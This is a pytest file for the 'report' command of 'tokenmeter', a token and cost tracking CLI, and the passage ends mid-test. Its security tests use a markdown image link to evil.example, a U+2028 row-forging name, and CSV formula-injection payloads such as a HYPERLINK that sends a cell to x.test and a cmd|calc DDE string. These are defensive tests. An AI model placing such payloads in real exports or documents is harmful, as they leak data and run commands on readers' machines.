"""``tokenmeter report`` against a history whose totals were worked out by hand."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

import tokenmeter
import tokenmeter.sinks
from tokenmeter import SessionInfo, UsageRecord
from tokenmeter.sinks import InMemorySink, MarkdownJournalSink

from .conftest import (
    CHAT,
    RECORDS,
    SESSIONS,
    TOTAL_COST,
    RunCli,
    append_lines,
    rec,
    record_line,
    run_module,
    subprocess_env,
    write_jsonl,
    write_sqlite,
)


def report_json(cli: RunCli, *args: str) -> dict:
    code, out, err = cli("report", *args, "--format", "json")
    assert code == 0, err
    return json.loads(out, parse_float=Decimal)


def rows_by(doc: dict, *columns: str) -> dict[tuple[str, ...], dict]:
    return {tuple(row[c] for c in columns): row for row in doc["rows"]}


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_a_period_without_calls_costs_nothing_not_an_unknown_amount(
    cli: RunCli, tmp_path: Path, kind: str
) -> None:
    """Its total cost was "n/a" (JSON null), what a report says of calls without a price."""
    records = [rec(1, "2026-01-01T10:00:00.000Z", "openai", "gpt-4o", 100, 10, "0.001")]
    if kind == "sqlite":
        source = write_sqlite(tmp_path / "usage.db", records, [])
    else:
        source = write_jsonl(tmp_path / "usage.jsonl", records)
    window = ("--source", str(source), "--since", "2026-06-01", "--until", "2026-06-30")
    doc = report_json(cli, *window)
    assert doc["totals"]["calls"] == 0 and doc["totals"]["cost_usd"] == 0
    code, out, err = cli("report", *window, "--format", "markdown")
    assert code == 0, err
    assert "$0.00" in out and "n/a" not in out


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_costs_past_nine_million_dollars_still_add_up_exactly(
    cli: RunCli, tmp_path: Path, kind: str
) -> None:
    """SQLite sums pico-USD in 64 bits: $9,223,372.04 in one group overflowed it, and every
    report, session list and dashboard of the database failed ("integer overflow")."""
    costs = ["1000000.000001"] * 9 + ["2999999.5", "-0.250003"]  # JSONL writes floats
    records = [
        rec(n, "2026-11-01T10:00:00.000Z", "openai", "gpt-4o", 1, 1, cost, session=CHAT)
        for n, cost in enumerate(costs)
    ]
    if kind == "sqlite":
        source = write_sqlite(tmp_path / "usage.db", records, [])
    else:
        source = write_jsonl(tmp_path / "usage.jsonl", records)
    total = sum(Decimal(cost) for cost in costs)
    assert total == Decimal("11999999.250006")
    doc = report_json(cli, "--source", str(source))
    assert doc["totals"]["cost_usd"] == total
    assert rows_by(doc, "model")[("gpt-4o",)]["cost_usd"] == total
    code, out, err = cli("sessions", "--source", str(source), "--format", "json")
    assert code == 0, err
    assert json.loads(out, parse_float=Decimal)[0]["cost_usd"] == total
    for fmt in ("html", "table"):
        code, out, err = cli("report", "--source", str(source), "--format", fmt)
        assert code == 0, err
        assert "$11,999,999.25" in out


def test_by_model_totals_are_exact(cli: RunCli, source: Path) -> None:
    doc = report_json(cli, "--source", str(source), "--by", "model")
    rows = rows_by(doc, "provider", "model")
    assert rows["openai", "gpt-4o"]["calls"] == 2
    assert rows["openai", "gpt-4o"]["cost_usd"] == Decimal("0.007625")
    assert rows["openai", "gpt-4o"]["input_tokens"] == 1010
    assert rows["anthropic", "claude-sonnet-4-5"]["cost_usd"] == Decimal("0.012345678901")
    assert rows["anthropic", "claude-sonnet-4-5"]["cache_read_tokens"] == 500
    assert rows["anthropic", "claude-sonnet-4-5"]["cache_write_tokens"] == 300
    assert rows["google", "gemini-2.5-flash"]["reasoning_tokens"] == 200
    unknown = rows["custom", "unknown-model"]
    assert unknown["cost_usd"] is None and unknown["unpriced_calls"] == 1
    totals = doc["totals"]
    assert totals["cost_usd"] == TOTAL_COST
    assert totals["calls"] == 6 and totals["unpriced_calls"] == 1
    assert totals["total_tokens"] == sum(r.total_tokens for r in RECORDS)
    # Most expensive first; shares add up to 1.
    assert doc["rows"][0]["model"] == "gpt-4o-mini"
    shares = [row["share_of_cost"] for row in doc["rows"] if row["share_of_cost"] is not None]
    assert abs(sum(shares) - 1) < Decimal("0.00001")


@pytest.mark.parametrize(
    ("by", "columns", "expected"),
    [
        ("provider", ("provider",), {("openai",): "1.242192890123", ("google",): "0.00185"}),
        (
            "session",
            ("session_id",),
            {("sess-chat",): "1.254413569024", ("sess-search",): "0.001975", ("(none)",): None},
        ),
        (
            "day",
            ("day",),
            {
                ("2026-11-01",): "0.019845678901",
                ("2026-11-02",): "0.001975",
                ("2026-11-03",): "1.234567890123",
            },
        ),
        (
            "tag:feature",
            ("tag:feature",),
            {("chat",): "1.254413569024", ("search",): "0.00185", (None,): "0.000125"},
        ),
        ("tag:team", ("tag:team",), {("core",): "0.00185", (None,): "1.254538569024"}),
    ],
)
def test_groupings(
    cli: RunCli, source: Path, by: str, columns: tuple[str, ...], expected: dict
) -> None:
    rows = rows_by(report_json(cli, "--source", str(source), "--by", by), *columns)
    for key, cost in expected.items():
        assert rows[key]["cost_usd"] == (None if cost is None else Decimal(cost)), key


def test_day_rows_are_in_time_order(cli: RunCli, source: Path) -> None:
    doc = report_json(cli, "--source", str(source), "--by", "day")
    assert [row["day"] for row in doc["rows"]] == ["2026-11-01", "2026-11-02", "2026-11-03"]


@pytest.mark.parametrize("by", [["--by", "model", "--by", "day"], ["--by", "model,day"]])
def test_composite_key(cli: RunCli, source: Path, by: list[str]) -> None:
    doc = report_json(cli, "--source", str(source), *by)
    assert doc["group_by"] == ["model", "day"]
    rows = rows_by(doc, "provider", "model", "day")
    assert rows["openai", "gpt-4o", "2026-11-01"]["cost_usd"] == Decimal("0.0075")
    assert rows["openai", "gpt-4o", "2026-11-02"]["cost_usd"] == Decimal("0.000125")
    assert len(doc["rows"]) == 6


@pytest.mark.parametrize(
    ("window", "ids_expected"),
    [
        (["--since", "2026-11-01", "--until", "2026-11-01"], 2),  # the whole day, both edges
        (["--until", "2026-11-01T23:59:59.998"], 1),  # one ms before the last call of the day
        (["--until", "2026-11-01T23:59:59.999Z"], 2),  # --until is inclusive
        (["--since", "2026-11-02"], 4),
        (["--since", "2026-11-01T23:59:59.999"], 5),
        (["--since", "2026-11-02T00:00:00.001"], 3),
    ],
)
def test_date_window_edges(cli: RunCli, source: Path, window: list[str], ids_expected: int) -> None:
    doc = report_json(cli, "--source", str(source), *window)
    assert doc["totals"]["calls"] == ids_expected


def test_markdown_never_makes_links_or_images_of_recorded_names(
    cli: RunCli, tmp_path: Path
) -> None:
    """A model a server named ``![](https://...)`` was an image a viewer loads from that server
    on opening the report (and a link, a phishing one): brackets are escaped, the name kept."""
    hostile = "![x](https://evil.example/p.png)[click](https://evil.example)"
    source = write_jsonl(
        tmp_path / "usage.jsonl",
        [rec(1, "2026-11-01T00:00:00.000Z", "openai", hostile, 10, 5, "0.001")],
    )
    code, out, _ = cli("report", "--source", str(source), "--format", "markdown")
    assert code == 0
    assert "](" in out and "![x](" not in out and "[click](" not in out
    assert "!\\[x\\](https://evil.example/p.png)\\[click\\](https://evil.example)" in out


@pytest.mark.parametrize("fmt", ["markdown", "table"])
def test_a_unicode_line_separator_in_a_name_starts_no_row(
    cli: RunCli, tmp_path: Path, fmt: str
) -> None:
    """U+2028 and U+2029 end a line for ``str.splitlines()`` and many viewers: a model named
    ``x``, U+2028, ``| TOTAL | 999 |`` made a forged TOTAL row of a markdown report."""
    names = ["x\u2028| **TOTAL** | **999** |", "y\u2029| **TOTAL** | **999** |"]
    records = [
        rec(i, "2026-11-01T00:00:00.000Z", "openai", n, 10, 5, "0.001") for i, n in enumerate(names)
    ]
    source = write_jsonl(tmp_path / "usage.jsonl", records)
    code, out, _ = cli("report", "--source", str(source), "--format", fmt)
    assert code == 0
    assert "\u2028" not in out and "\u2029" not in out
    assert sum("TOTAL" in line for line in out.splitlines()) == 3  # the names' rows and the total


def test_relative_since_excludes_old_history(cli: RunCli, source: Path) -> None:
    doc = report_json(cli, "--source", str(source), "--since", "7d")
    assert doc["totals"]["calls"] == 0 and doc["rows"] == []


def test_markdown(cli: RunCli, source: Path) -> None:
    code, out, _ = cli("report", "--source", str(source), "--format", "markdown")
    assert code == 0
    lines = out.splitlines()
    header = next(line for line in lines if line.startswith("| provider"))
    assert (
        "| Calls | Input | Output | Cache read | Cache write | Reasoning | Total tokens |" in header
    )
    assert "| Cost | Avg/call | Share | Unpriced | Errors |" in header
    total = next(line for line in lines if line.startswith("| **TOTAL**"))
    assert "**$1.26**" in total
    assert "| gpt-4o-mini |" in out
    assert "- **Total cost**: $1.26 (without 1 unpriced call)\n" in out


def test_a_markdown_report_says_which_calls_it_counts(cli: RunCli, source: Path) -> None:
    """A markdown report of ``--provider openai`` (or ``--tag``, ``--status``...) said nothing of
    the filter: pasted into a ticket, its "Total cost" read as the whole spend, where the table,
    HTML and JSON formats name it. It names it, and the period a ``--compare`` compares with."""
    code, out, err = cli(
        "report", "--source", str(source), "--provider", "openai", "--since", "2026-11-02",
        "--until", "2026-11-03", "--compare", "--format", "markdown",
    )  # fmt: skip
    assert code == 0, err
    assert "- **Only**: provider=openai\n" in out
    assert "- **Compared with**: 2026-10-31 to 2026-11-01 (UTC, both days included)\n" in out


def test_csv_is_machine_clean(cli: RunCli, source: Path) -> None:
    code, out, err = cli("report", "--source", str(source), "--by", "day", "--format", "csv")
    assert code == 0 and err == ""
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["day"] for row in rows] == ["2026-11-01", "2026-11-02", "2026-11-03"]
    assert sum(Decimal(row["cost_usd"]) for row in rows) == TOTAL_COST
    assert "\x1b" not in out


def test_plain_table_when_piped(cli: RunCli, source: Path) -> None:
    code, out, _ = cli("report", "--source", str(source))
    assert code == 0
    assert "\x1b" not in out  # no colour codes when stdout is not a terminal
    total_line = next(line for line in out.splitlines() if line.startswith("TOTAL"))
    assert "$1.26" in total_line and "100.0%" in total_line
    assert "124,110" in out  # gpt-4o-mini's total tokens, thousands separated
    header = next(line for line in out.splitlines() if line.startswith("provider"))
    for column in ("Calls", "Cache read", "Cache write", "Reasoning", "Share", "Unpriced"):
        assert column in header


def test_detailed_lists_calls(cli: RunCli, source: Path) -> None:
    doc = report_json(cli, "--source", str(source), "--detailed")
    assert [c["timestamp"] for c in doc["calls"]] == [
        "2026-11-01T00:00:00.000Z",
        "2026-11-01T23:59:59.999Z",
        "2026-11-02T00:00:00.000Z",
        "2026-11-02T12:00:00.000Z",
        "2026-11-02T12:30:00.000Z",
        "2026-11-03T08:00:00.000Z",
    ]
    assert doc["calls"][-1]["cost_usd"] == Decimal("1.234567890123")
    assert doc["calls"][4]["status"] == "error" and doc["calls"][4]["error"] == "APIError"
    limited = report_json(cli, "--source", str(source), "--detailed", "--limit", "2")
    assert [c["model"] for c in limited["calls"]] == ["unknown-model", "gpt-4o-mini"]
    code, out, _ = cli("report", "--source", str(source), "--detailed", "--limit", "2")
    assert code == 0
    assert "Calls (the latest 2 of 6)" in out


def test_detailed_csv_lists_calls(cli: RunCli, source: Path) -> None:
    code, out, _ = cli("report", "--source", str(source), "--detailed", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 6 and json.loads(rows[2]["tags"]) == {"feature": "search", "team": "core"}


def test_detailed_lists_say_when_limit_cut_them_and_tags_stay_apart(
    cli: RunCli, tmp_path: Path
) -> None:
    """A CSV or JSON of calls stopped at --limit with no sign of it, and CSV joined tags as
    k=v;k=v: {"a": "1;b=2"} and {"a": "1", "b": "2"} read the same."""
    records = [
        rec(1, "2026-11-01T10:00:00.000Z", "openai", "gpt-4o", 1, 1, "0.1", tags={"a": "1;b=2"}),
        rec(
            2,
            "2026-11-01T11:00:00.000Z",
            "openai",
            "gpt-4o",
            1,
            1,
            "0.1",
            tags={"a": "1", "b": "2"},
        ),
    ]
    source = write_sqlite(tmp_path / "usage.db", records, [])
    code, out, err = cli("report", "--source", str(source), "--detailed", "--format", "csv")
    assert code == 0, err
    tags = [json.loads(row["tags"]) for row in csv.DictReader(io.StringIO(out))]
    assert tags == [{"a": "1;b=2"}, {"a": "1", "b": "2"}] and "listed" not in err
    args = ("--source", str(source), "--detailed", "--limit", "1")
    assert report_json(cli, *args)["calls_listed_all"] is False
    assert report_json(cli, "--source", str(source), "--detailed")["calls_listed_all"] is True
    code, out, err = cli("report", *args, "--format", "csv")
    assert code == 0 and "listed the latest 1 of 2 calls (--limit 0 lists all)" in err


def test_output_file_owner_only_and_format_from_suffix(
    cli: RunCli, source: Path, tmp_path: Path
) -> None:
    target = tmp_path / "out" / "report.md"
    target.parent.mkdir()
    code, out, _ = cli("report", "--source", str(source), "-o", str(target))
    assert code == 0 and out == ""
    assert target.read_text().startswith("# tokenmeter report")
    assert os.stat(target).st_mode & 0o777 == 0o600
    long_suffix = tmp_path / "report.markdown"  # was a plain table
    assert cli("report", "--source", str(source), "-o", str(long_suffix))[0] == 0
    assert long_suffix.read_text() == target.read_text()
    html = tmp_path / "report.html"
    assert cli("report", "--source", str(source), "-o", str(html))[0] == 0
    assert html.read_text().startswith("<!DOCTYPE html>")


def test_output_file_written_again_keeps_its_mode(
    cli: RunCli, source: Path, tmp_path: Path
) -> None:
    """``report -o costs.html``, ``chmod 644``, ``report -o costs.html``: the file was 0600
    again (the temporary file renamed over it), and a web server serving it got a 403."""
    target = tmp_path / "costs.html"
    assert cli("report", "--source", str(source), "-o", str(target))[0] == 0
    assert os.stat(target).st_mode & 0o777 == 0o600
    target.chmod(0o644)
    link = tmp_path / "latest.html"
    link.symlink_to(target)
    for written in (target, link):
        assert cli("report", "--source", str(source), "-o", str(written))[0] == 0
        assert os.stat(target).st_mode & 0o777 == 0o644
    assert link.is_symlink()


def test_output_dash_is_standard_output(
    cli: RunCli, source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``-o -`` wrote a file named "-" in the working directory (and said "wrote -")."""
    monkeypatch.chdir(tmp_path)
    to_stdout = cli("report", "--source", str(source), "-o", "-", "--format", "csv")
    assert to_stdout == cli("report", "--source", str(source), "--format", "csv")
    assert to_stdout[0] == 0 and "," in to_stdout[1]
    assert cli("sessions", "--source", str(source), "-o", "-")[0] == 0
    assert not (tmp_path / "-").exists()


def _limit_file_size() -> None:  # in the child: a file grows past 4 KiB as on a full disk
    import resource

    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, resource.RLIM_INFINITY))


@pytest.mark.parametrize("existing", [True, False])
def test_output_file_that_cannot_be_written_whole_is_left_alone(
    jsonl_file: Path, tmp_path: Path, existing: bool
) -> None:
    """``-o`` wrote into the file itself: a write that failed midway (a full disk, here the file
    size limit) left half a report, in place of the good one when the file existed."""
    out = tmp_path / "out"
    out.mkdir()
    target = out / "report.html"
    if existing:
        target.write_text("the report of last week\n")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "tokenmeter",
            "report",
            "--source",
            str(jsonl_file),
            "-o",
            str(target),
        ],
        cwd=tmp_path,
        env=subprocess_env(),
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=_limit_file_size,
    )
    assert result.returncode == 1, result.stderr
    assert result.stderr.splitlines() == [
        f"tokenmeter: error: cannot write {target}: File too large"
    ]
    assert os.listdir(out) == (["report.html"] if existing else [])
    if existing:
        assert target.read_text() == "the report of last week\n"


@pytest.mark.parametrize("refund", ["-0.999999999999", "-2"])
@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "json", "html"])
def test_shares_of_a_total_that_refunds_bring_near_zero_or_below(
    cli: RunCli, tmp_path: Path, fmt: str, refund: str
) -> None:
    """A refund (a negative cost) can bring the total near zero or below it: the shares of that
    total were absurd (100000000000000.0% beside -99999999999900.0%; -100% and 200%). A share is
    shown only for a part of a positive total; the others are blank (null in JSON)."""
    paid = rec(1, "2026-11-01T10:00:00.000Z", "openai", "gpt-4o", 10, 5, "1")
    refunded = rec(2, "2026-11-01T11:00:00.000Z", "openai", "gpt-4o-mini", 10, 5, "1")
    data = append_lines(
        tmp_path / "usage.jsonl",
        [record_line(paid), record_line(refunded, estimated_cost_usd=refund)],
    )
    code, out, err = cli("report", "--source", str(data), "--format", fmt, "--wide")
    assert code == 0, err
    if fmt == "json":
        doc = json.loads(out, parse_float=Decimal)
        assert [row["share_of_cost"] for row in doc["rows"]] == [None, None]
    elif fmt == "csv":
        assert [row["share_of_cost"] for row in csv.DictReader(io.StringIO(out))] == ["", ""]
    else:  # every percentage, the chart's heights and widths included, is a part of a whole
        shown = [Decimal(n) for n in re.findall(r"(-?[\d,.]+)%", out.replace(",", ""))]
        assert all(0 <= n <= 100 for n in shown), shown


def test_directory_source_finds_usage_db(cli: RunCli, sqlite_db: Path) -> None:
    doc = report_json(cli, "--source", str(sqlite_db.parent))
    assert doc["totals"]["cost_usd"] == TOTAL_COST


def test_a_source_whose_path_is_not_utf8_is_read(cli: RunCli, tmp_path: Path) -> None:
    """A directory named in another encoding (Latin-1 'caf\\xe9', from an old archive): the
    sinks and ``tokenmeter demo --dir`` write there, but a report of its SQLite database ended
    in a UnicodeEncodeError traceback (the read-only URI quoted the path as UTF-8 text)."""
    import os

    folder = Path(os.fsdecode(bytes(tmp_path) + b"/caf\xe9"))
    write_sqlite(folder / "usage.db", RECORDS, SESSIONS)
    for source in (folder, folder / "usage.db"):
        assert report_json(cli, "--source", str(source))["totals"]["calls"] == 6


def test_default_source_honours_tokenmeter_dir(
    cli: RunCli, sqlite_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOKENMETER_DIR", str(sqlite_db.parent))
    assert report_json(cli)["totals"]["calls"] == 6


@pytest.mark.parametrize("setting", ["pyproject", "environment"])
def test_default_source_is_where_the_configured_sinks_write(
    cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str
) -> None:
    """A project that moved from the default sqlite sink to ``sinks = ["jsonl"]``: a report
    read the old usage.db (1 call) and left out, silently, the calls made since."""
    monkeypatch.chdir(tmp_path)
    write_sqlite(tmp_path / ".tokenmeter" / "usage.db", RECORDS[:1], [])
    write_jsonl(tmp_path / ".tokenmeter" / "usage.jsonl", RECORDS)
    if setting == "pyproject":
        (tmp_path / "pyproject.toml").write_text('[tool.tokenmeter]\nsinks = ["jsonl"]\n')
    else:
        monkeypatch.setenv("TOKENMETER_SINKS", "jsonl,markdown")
    doc = report_json(cli)
    assert doc["source"].endswith("usage.jsonl") and doc["totals"]["calls"] == 6
    monkeypatch.setenv("TOKENMETER_SINKS", "jsonl,sqlite")  # both written: the database
    assert report_json(cli)["totals"]["calls"] == 1


def test_a_directory_source_holding_both_files_is_read_where_the_sinks_write(
    cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same move to ``sinks = ["jsonl"]``, with the directory named: ``--source
    .tokenmeter`` read the old usage.db (1 call where ``tokenmeter report`` showed 6)."""
    monkeypatch.chdir(tmp_path)
    write_sqlite(tmp_path / ".tokenmeter" / "usage.db", RECORDS[:1], [])
    write_jsonl(tmp_path / ".tokenmeter" / "usage.jsonl", RECORDS)
    monkeypatch.setenv("TOKENMETER_SINKS", "jsonl,markdown")
    doc = report_json(cli, "--source", ".tokenmeter")
    assert doc["source"].endswith("usage.jsonl") and doc["totals"]["calls"] == 6
    monkeypatch.setenv("TOKENMETER_SINKS", "jsonl,sqlite")  # both written: the database
    assert report_json(cli, "--source", ".tokenmeter")["totals"]["calls"] == 1


def test_a_directory_source_holding_both_files_is_read_whatever_a_bad_setting(
    cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A typo in a setting the CLI never uses (``max_queue = "lots"``) refused ``--source DIR``,
    exit 2, when DIR held usage.db and usage.jsonl (``sinks = sqlite,jsonl``), while ``--source
    DIR/usage.db`` was read: a source named is read, the database of the two, with a warning."""
    monkeypatch.chdir(tmp_path)
    write_sqlite(tmp_path / "data" / "usage.db", RECORDS, SESSIONS)
    write_jsonl(tmp_path / "data" / "usage.jsonl", RECORDS[:1])
    (tmp_path / "pyproject.toml").write_text('[tool.tokenmeter]\nmax_queue = "lots"\n')
    code, out, err = cli("report", "--source", "data", "--format", "json")
    assert code == 0, err
    assert json.loads(out)["totals"]["calls"] == len(RECORDS)
    [warning] = err.strip().splitlines()
    assert warning.startswith("tokenmeter: warning: tokenmeter setting 'max_queue'")
    assert warning.endswith(f"; reading {Path('data', 'usage.db')}")
    code, _, err = cli("report")  # the default source is where the settings say: they must read
    assert code == 2 and "max_queue" in err


# --- errors ----------------------------------------------------------------------------------


def test_missing_source(cli: RunCli, tmp_path: Path) -> None:
    code, out, err = cli("report", "--source", str(tmp_path / "nope.db"))
    assert code == 1 and out == ""
    assert err.strip().splitlines() == [f"tokenmeter: error: no usage data at {tmp_path}/nope.db"]


@pytest.mark.parametrize(
    "url",
    ["postgresql://user:s3cret@host:99999/db", "postgresql://user:s3cret@[::1/db"],
)
def test_malformed_postgres_url_is_one_line_without_the_password(cli: RunCli, url: str) -> None:
    """A port out of range or a torn IPv6 host made ``urlsplit`` raise: a traceback."""
    for command in (["report"], ["sessions"], ["tail"], ["session", "x"]):
        code, out, err = cli(*command, "--source", url)
        assert (code, out) == (2, ""), (command, err)
        assert len(err.splitlines()) == 1 and err.startswith(
            "tokenmeter: error: bad PostgreSQL URL"
        )
        assert "s3cret" not in err


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://user:s3cret%zz@127.0.0.1:1/db",  # libpq quotes the token it cannot decode
        "postgresql://user@127.0.0.1:1/db?password=s3cret%zz",
    ],
)
def test_a_url_libpq_cannot_parse_never_shows_the_password(cli: RunCli, url: str) -> None:
    code, out, err = cli("report", "--source", url)
    assert (code, out) == (1, "") and len(err.splitlines()) == 1, err
    assert "s3cret" not in err and "PostgreSQL" in err


def test_missing_default_source_says_what_to_do(
    cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TOKENMETER_DIR", raising=False)
    code, _, err = cli("report")
    assert code == 1 and len(err.strip().splitlines()) == 1
    assert ".tokenmeter/usage.db" in err and "tokenmeter demo" in err


def test_sqlite_without_records_table(cli: RunCli, tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "other.db"
    sqlite3.connect(path).execute("CREATE TABLE t (x)").connection.close()
    code, _, err = cli("report", "--source", str(path))
    assert code == 1 and "not a tokenmeter database" in err and len(err.splitlines()) == 1


def test_unreadable_source(cli: RunCli, tmp_path: Path) -> None:
    path = tmp_path / "garbage.bin"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    code, _, err = cli("report", "--source", str(path))
    assert code == 1 and "neither a tokenmeter SQLite database nor a JSONL file" in err


def test_a_fifo_or_a_pipe_is_refused_not_waited_on(tmp_path: Path) -> None:
    """A FIFO no one writes to hung every command (reading its first bytes waits for a writer);
    a pipe (``--source <(zcat usage.jsonl.gz)``) gave a report of no calls, as its size is 0 and
    its first bytes were spent on telling JSONL from SQLite. Both are an error, at once."""
    fifo = tmp_path / "usage.jsonl"
    os.mkfifo(fifo)
    for command in (["report"], ["sessions"], ["tail"], ["session", "x"], ["alerts"]):
        result = run_module(*command, "--source", str(fifo), cwd=tmp_path)
        assert result.returncode == 1 and result.stdout == "", command
        assert result.stderr.splitlines() == [
            f"tokenmeter: error: {fifo} is not a regular file (a pipe or a device): "
            "save it to a file and pass that"
        ], command
    reader, writer = os.pipe()
    os.write(writer, write_jsonl(tmp_path / "data.jsonl", RECORDS).read_bytes())
    os.close(writer)
    try:
        result = subprocess.run(
            [sys.executable, "-m", "tokenmeter", "report", "--source", f"/dev/fd/{reader}"],
            pass_fds=[reader],
            cwd=tmp_path,
            env=subprocess_env(),
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        os.close(reader)
    assert result.returncode == 1 and "is not a regular file" in result.stderr
    (tmp_path / "data").mkdir()
    data = write_sqlite(tmp_path / "data" / "usage.db", RECORDS, [])
    os.mkfifo(tmp_path / "data" / "alerts.jsonl")  # beside the data: the dashboard reads it
    for command in (["--format", "html"], ["--period", "week", "--format", "markdown"]):
        result = run_module("report", "--source", str(data), *command, cwd=tmp_path)
        assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("flag", ["--since", "--until"])
@pytest.mark.parametrize("value", ["yesterday", "2026-13-01", "7x", ""])
def test_bad_date(cli: RunCli, sqlite_db: Path, flag: str, value: str) -> None:
    code, out, err = cli("report", "--source", str(sqlite_db), flag, value)
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "bad date" in err


@pytest.mark.parametrize("by", ["modle", "tag:", "day,weekday"])
def test_unknown_by_key(cli: RunCli, sqlite_db: Path, by: str) -> None:
    code, out, err = cli("report", "--source", str(sqlite_db), "--by", by)
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "unknown --by key" in err


def test_corrupt_jsonl_lines_are_skipped_and_counted(cli: RunCli, tmp_path: Path) -> None:
    path = write_jsonl(tmp_path / "usage.jsonl", RECORDS[:3])
    with path.open("a") as handle:
        handle.write("not json at all\n")
        handle.write('["a list"]\n')
        handle.write('{"timestamp": "2026-11-02T00:00:01.000Z", "input_tokens": "many"}\n')
    write_jsonl(path, RECORDS[3:])
    with path.open("a") as handle:
        handle.write('{"timestamp": "2026-11-03T09:00:00.000Z", "model_pro')  # torn last line
    code, out, err = cli("report", "--source", str(path), "--format", "json")
    assert code == 0
    assert json.loads(out, parse_float=Decimal)["totals"]["cost_usd"] == TOTAL_COST
    assert err.strip().splitlines() == [f"tokenmeter: warning: skipped 4 corrupt lines in {path}"]


def test_unpriced_only_is_not_a_silent_zero(cli: RunCli, tmp_path: Path) -> None:
    path = write_jsonl(
        tmp_path / "u.jsonl", [rec(9, "2026-11-05T00:00:00.000Z", "x", "m", 1, 1, None)]
    )
    doc = report_json(cli, "--source", str(path))
    assert doc["totals"]["cost_usd"] is None and doc["totals"]["unpriced_calls"] == 1
    code, out, _ = cli("report", "--source", str(path))
    assert code == 0
    assert "n/a" in out


# --- csv formula injection -------------------------------------------------------------------

#: Text a spreadsheet would run as a formula (OWASP "CSV injection"): = + - @ tab and CR first.
FORMULAS = ['=HYPERLINK("http://x.test/?q="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
FORMULAS += ["\tTAB=1", "\r=CR"]


def _csv_history(tmp_path: Path, kind: str) -> Path:
    """One call per formula-like text, used as model, session name and tag; plus a refund."""
    records = [
        rec(
            80 + i,
            "2026-11-04T00:00:00.000Z",
            "openai",
            text,
            1,
            1,
            "0.5",
            session=(f"sess-{i}", text),
            tags={"team": text},
        )
        for i, text in enumerate(FORMULAS)
    ]
    when = "2026-11-05T00:00:00.000Z"
    records.append(rec(99, when, "openai", "refund", 1, 1, "-0.25", tags={"@k": "v"}))
    if kind == "sqlite":
        return write_sqlite(tmp_path / "usage.db", records, [])
    return write_jsonl(tmp_path / "usage.jsonl", records)


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
@pytest.mark.parametrize("by", ["model", "session", "tag:team"])
def test_csv_neutralises_formula_text_cells(
    cli: RunCli, tmp_path: Path, kind: str, by: str
) -> None:
    source = _csv_history(tmp_path, kind)
    code, out, err = cli("report", "--source", str(source), "--by", by, "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out, newline="")))
    header, body = rows[0], rows[1:]
    column = {"model": "model", "session": "session", "tag:team": "tag:team"}[by]
    shown = {row[header.index(column)] for row in body}
    for text in FORMULAS:
        assert "'" + text in shown, (text, shown)
        assert text not in shown
    for row in body:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), (cell, row)


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_csv_keeps_numbers_numbers_and_plain_text_exact(
    cli: RunCli, tmp_path: Path, kind: str
) -> None:
    source = _csv_history(tmp_path, kind)
    code, out, _ = cli("report", "--source", str(source), "--by", "model", "--format", "csv")
    assert code == 0
    rows = csv.DictReader(io.StringIO(out, newline=""))
    refund = next(row for row in rows if row["model"] == "refund")
    assert refund["cost_usd"] == "-0.25"  # a negative number is a number: no quote in front
    assert refund["provider"] == "openai" and refund["calls"] == "1"


@pytest.mark.parametrize("kind", ["sqlite", "jsonl"])
def test_detailed_csv_neutralises_every_text_column(cli: RunCli, tmp_path: Path, kind: str) -> None:
    source = _csv_history(tmp_path, kind)
    args = ("report", "--source", str(source), "--detailed", "--format", "csv")
    code, out, _ = cli(*args)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(FORMULAS) + 1  # a carriage return inside a cell is quoted
    by_model = {row["model"]: row for row in rows}
    for text in FORMULAS:
        row = by_model["'" + text]
        assert row["session_name"] == "'" + text
        assert json.loads(row["tags"]) == {"team": text}  # JSON text: nothing to neutralise
    assert by_model["refund"]["cost_usd"] == "-0.25"
    assert by_model["refund"]["input_tokens"] == "1"
    assert json.loads(by_model["refund"]["tags"]) == {"@k": "v"}  # '{': no formula


@pytest.mark.parametrize("storage", ["sqlite", "jsonl"])
def test_detailed_calls_say_which_counts_are_estimated(
    cli: RunCli, tmp_path: Path, storage: str
) -> None:
    """A call whose provider reported no usage is recorded with an estimate: the report says so
    next to its status, in every format."""
    reported = rec(1, "2026-11-01T10:00:00Z", "openai", "gpt-4o", 120, 40, "0.0007")
    guessed = rec(2, "2026-11-01T11:00:00Z", "openai", "gpt-4o", 118, 35, "0.0006")
    guessed = guessed.model_copy(update={"estimated": True})
    if storage == "sqlite":
        path = write_sqlite(tmp_path / "usage.db", [reported, guessed], [])
    else:
        path = write_jsonl(tmp_path / "usage.jsonl", [reported, guessed])
